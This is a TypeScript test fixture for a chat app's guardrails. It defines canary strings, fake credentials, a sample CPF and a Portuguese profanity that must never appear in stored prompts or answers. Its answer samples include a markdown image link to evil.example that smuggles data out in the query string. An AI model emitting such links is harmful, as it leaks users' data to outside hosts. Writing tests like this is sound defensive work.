/** What a rail stops or hides in the campaign's questions and answers: each must be found nowhere. */
export const CANARIES = {
  'prompt with a blocked term': 'canariotermo1a',
  'prompt with a secret': 'canariosegredo2b',
  'secret of a prompt': 'Xk9vQ2pLw7Rt',
  'CPF of a prompt': '529.982.247-25',
  'CPF of a prompt, bare': '52998224725',
  'answer after a blocked term': 'canariodepois3c',
  'secret of an answer': 'AKIAZ7QWERTYUIOP2345',
  'link of an answer': 'canariolink4d',
} as const;
export type Canary = keyof typeof CANARIES;

const BLOCKED_TERM = 'que filho da puta';
const LINK = `![x](https://evil.example/p.png?d=${CANARIES['link of an answer']})`;

/** A question that carries canaries, or has its answer carry them. */
export interface Carrier {
  readonly name: string;
  /** What its prompt says after the question's number. */
  readonly asks: string;
  /** Of the prompt nothing is stored: it can be neither asked again nor gone on with. */
  readonly isRefused: boolean;
  /** What stands in the middle of its answers. */
  readonly says?: string;
  /** Whether the web is asked. */
  readonly web?: boolean;
}

/** Every kind as often as every other. */
export const CARRIERS: readonly Carrier[] = [
  {
    name: 'blocked term asked',
    asks: `${CANARIES['prompt with a blocked term']} ${BLOCKED_TERM}`,
    isRefused: true,
  },
  {
    name: 'secret asked',
    asks: `${CANARIES['prompt with a secret']} senha: ${CANARIES['secret of a prompt']}`,
    isRefused: true,
  },
  { name: 'CPF asked', asks: cpfIn('a planilha da casa'), isRefused: false },
  { name: 'CPF asked of the web', asks: cpfIn('o preço do café'), isRefused: false, web: true },
  {
    name: 'blocked term answered',
    asks: 'conte com o termo',
    isRefused: false,
    says: ` Tudo bem, seu ${BLOCKED_TERM}, ${CANARIES['answer after a blocked term']} e mais.`,
  },
  {
    name: 'secret answered',
    asks: 'conte com a chave',
    isRefused: false,
    says: ` A chave é ${CANARIES['secret of an answer']}, guarde bem.`,
  },
  {
    name: 'link answered',
    asks: 'conte com o retrato',
    isRefused: false,
    says: ` Veja ${LINK} ali.`,
  },
];

function cpfIn(what: string): string {
  const { 'CPF of a prompt': written, 'CPF of a prompt, bare': bare } = CANARIES;
  return `o CPF ${written}, de novo ${bare}, serve para ${what}?`;
}

/** Which carrier a prompt is, wherever its text stands. */
export const carrierOf = (prompt: string): Carrier | undefined =>
  CARRIERS.find(({ asks }) => prompt.includes(asks) || prompt.includes(masked(asks)));

/** The prompt as it must be stored; undefined: it must not. */
export function storedAs(prompt: string): string | undefined {
  return carrierOf(prompt)?.isRefused === true ? undefined : masked(prompt);
}

/** Every CPF is the same one: it has the first number of each conversation. */
const masked = (prompt: string): string =>
  prompt
    .replaceAll(CANARIES['CPF of a prompt'], '[CPF_1]')
    .replaceAll(CANARIES['CPF of a prompt, bare'], '[CPF_1]');

/** The canaries that are in a text or in the bytes of a file. */
export const canariesIn = (content: string | Buffer): Canary[] =>
  (Object.keys(CANARIES) as Canary[]).filter((name) => content.includes(CANARIES[name]));

/** Of questions, of what the web is asked, of answers and titles. */
const HARMLESS = ['caso ', 'preço', 'Resposta ', 'Sobre a casa'];

/** Whether a text, or the bytes of a file, holds harmless words of a campaign. */
export const isLegible = (content: string | Buffer): boolean =>
  HARMLESS.some((word) => content.includes(word));

/** What stands for what is hidden in answers. */
const HIDDEN = { '[SECRET]': CANARIES['secret of an answer'], '(imagem removida)': LINK };

/** An answer as the provider said it, from what is stored of it. */
export const asSaid = (body: string): string =>
  Object.entries(HIDDEN).reduce((text, [sign, hidden]) => text.replaceAll(sign, hidden), body);

/** The same the other way round: what of an answer's text is stored, which is all that a crash leaves. */
export const asShown = (said: string): string =>
  Object.entries(HIDDEN).reduce((text, [sign, hidden]) => text.replaceAll(hidden, sign), said);
